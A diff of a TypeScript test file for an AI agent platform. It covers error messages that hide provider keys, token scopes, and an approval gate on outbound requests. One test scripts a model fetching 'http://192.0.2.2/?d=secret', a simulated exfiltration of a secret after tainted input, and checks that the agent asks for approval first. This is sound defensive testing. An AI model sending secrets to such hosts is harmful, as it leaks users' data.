@@ -108,7 +108,18 @@ describe("what goes wrong", () => {
       await send("Hello", "r1");
       const ended = await end("r1");
       expect(ended).toMatchObject({ status: "error" });
-      expect(ended.error).not.toContain(fakeKey);
+      expect(ended.error).toBe("The provider did not accept the key: an admin has to look at it.");
+      // What the provider itself says is for admins.
+      const stepsFor = async (who: { token: string }) =>
+        JSON.stringify((await app.call("runs.get", { runId: "r1" }, who)).body.steps);
+      const own = await stepsFor(me);
+      expect(own).not.toContain(fakeKey);
+      const made = await app.call("tokens.create", { name: "reader", scopes: ["operator.read"] }, me);
+      const plain = await stepsFor({ token: made.body.token });
+      const [said] = /"message":"[^"]*"/.exec(own.slice(own.indexOf('"fault"'))) ?? [""];
+      expect(said).not.toContain("an admin has to look");
+      expect(plain).not.toContain(said);
+      expect(plain).toContain("an admin has to look");
       expect((await send("Hello", "r2", "agent:nobody:main")).status).toBe(404);
       await app.call("models.setDefault", { model: null }, me);
       const none = await send("Hello", "r3", "other");
@@ -251,6 +262,17 @@ test("what is put aside while an agent answers is answered there, and not in wha
     ]);
   }));
 
+/** Waits until something is asked. */
+async function questions({ call, clock }: TestApp, me: { token: string }) {
+  for (let tries = 0; tries < 400; tries++) {
+    await clock.pass(20);
+    const { approvals } = (await call("exec.approval.list", { state: "pending" }, me)).body;
+    if (approvals.length > 0) return approvals;
+    await new Promise((resolve) => setTimeout(resolve, 5));
+  }
+  throw new Error("nothing is asked");
+}
+
 test("what one run has read taints the next ones of its conversation, until it begins anew", () =>
   withTestApp(async (app) => {
     const { me, send, end } = await talking(app);
@@ -263,6 +285,9 @@ test("what one run has read taints the next ones of its conversation, until it b
     await end("r1");
     far.answer(fetches("c2", "http://192.0.2.2/?d=secret"), said("Refused."));
     await send("Go on", "r2");
+    // It asks before it sends to where nobody has sent it.
+    const [asked] = await questions(app, me);
+    await app.call("exec.approval.resolve", { id: asked?.id ?? "", decision: "deny" }, me);
     await end("r2");
     const outcome = async (runId: string) => {
       const { steps } = (await app.call("runs.get", { runId }, me)).body;
@@ -308,11 +333,20 @@ test("what an interrupted run had said, as far as it was kept, is in its convers
     await app.call("sessions.patch", { key: "main" }, me);
     const rows = createRunStore(app.store);
     const run = { account: "@olga:localhost", id: "r9", key: "agent:main:main", agent: "main", model: null };
-    const open = { state: "running" as const, fault: null, input_tokens: null, output_tokens: null, ended_at: null };
+    const open = {
+      state: "running" as const,
+      fault: null,
+      spec: null,
+      input_hash: null,
+      input_tokens: null,
+      output_tokens: null,
+      ended_at: null,
+    };
     await rows.begin({ ...run, ...open, started_at: 1 });
     const message = { role: "assistant" as const, parts: [{ type: "text" as const, text: "Half of it." }] };
     await rows.keep(run.account, run.id, { seq: 1, at: 1, event: { type: "message", turn: 1, message, usage: {} } });
     const conversations = createConversationsModule({
+      defaults: async () => ({ modelProvider: null, model: null, contextTokens: null }),
       store: app.store,
       chain: createChain(app.store, new Uint8Array(32).fill(7), systemRandom),
       world: { clock: app.clock, random: systemRandom },
